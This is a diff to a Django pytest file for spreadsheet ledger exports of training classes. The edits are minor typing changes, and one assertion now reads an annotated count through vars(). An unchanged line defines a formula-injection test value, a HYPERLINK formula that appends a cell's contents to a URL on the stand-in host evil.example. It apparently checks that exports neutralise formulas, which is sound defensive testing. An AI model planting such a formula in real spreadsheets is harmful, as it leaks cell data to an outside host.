@@ -4,6 +4,7 @@ may reveal, marked with who exported them and when, no cell a spreadsheet would 
 from __future__ import annotations
 
 import io
+from typing import Any
 
 import pytest
 
@@ -23,7 +24,7 @@ pytestmark = pytest.mark.django_db
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
 
 
-def ledger(export, actor, **filters) -> list[list[object]]:
+def ledger(export, actor, **filters) -> list[list[Any]]:
     out = io.BytesIO()
     export(actor=actor, filters=ClassFilters(**filters), out=out)
     return read_back(out.getvalue())
@@ -166,7 +167,8 @@ def test_a_towns_classes_ledger_counts_only_its_own_trainees(users, world):
     assert cizao == {ours.code: [1, 1, 1], world["theirs"].code: [1, 0, 0]}
     # As on the class list the town sees.
     from canpei.training.classes.selectors import class_list
-    assert [c.trainee_count for c in class_list(user=users.town_staff)] == [1]
+    # trainee_count is the selector's annotation, which the model's type does not declare.
+    assert [vars(c)["trainee_count"] for c in class_list(user=users.town_staff)] == [1]
 
 
 def test_an_institution_cannot_filter_its_trainees_ledger_by_town(users, world):
